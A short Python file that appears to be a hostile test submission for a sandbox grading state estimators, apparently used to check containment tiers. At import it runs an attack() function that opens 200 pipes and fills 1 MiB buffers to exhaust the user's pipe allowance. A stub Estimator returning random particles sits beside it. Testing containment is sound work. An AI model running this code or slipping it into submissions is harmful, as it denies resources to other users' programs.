"""Fills the pipes a user may have, so that the next program gets none.

Contained from tier 0.
"""

import contextlib
import fcntl
import os


def attack():
    with contextlib.suppress(OSError):
        for _ in range(200):
            _, sender = os.pipe()
            fcntl.fcntl(sender, fcntl.F_SETPIPE_SZ, 1 << 20)
            os.set_blocking(sender, False)
            os.write(sender, bytes(1 << 20))


attack()


def Estimator(previous, observation, control, constants, rng):
    return rng.uniform(0.0, constants.L, (500, 6))
